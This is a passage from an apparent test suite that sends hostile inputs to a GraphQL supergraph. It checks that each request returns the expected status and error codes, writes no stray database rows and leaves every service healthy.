      expect(stored).toEqual({ name: sqlText, description: scriptText });
      const { product } = await f.customer.data(`query ($id: ID!) { product(id: $id) { name description } }`, { id });
      expect(product).toEqual({ name: sqlText, description: scriptText });
    },
  },
];

const allUp = { gateway: 200, users: 200, catalog: 200, orders: 200, payments: 200, logistics: 200 };

describe('hostile input to the supergraph', () => {
  it('has at least fifty cases, each with its own name', () => {
    expect(cases.length).toBeGreaterThanOrEqual(50);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
  });

  it.each(cases)('$name: $status $code, every service up, no row written but its own', async (hostile) => {
    const before = await countRows(pg);
    const answer = await send(hostile.request());
    const codes = [...new Set(errorCodes(answer.body))];
    expect({ status: answer.status, codes }).toEqual({ status: hostile.status, codes: hostile.code ? [hostile.code] : [] });
    await hostile.check?.(answer);
    // A legitimate write's events land in other schemas a moment later; nothing else may appear.
    if (hostile.writes) await eventually(async () => expect(await countRows(pg)).toEqual(withWrites(before, hostile.writes)));
    else expect(await countRows(pg)).toEqual(before);
    expect(await healthStatuses(stack)).toEqual(allUp);
  });
});
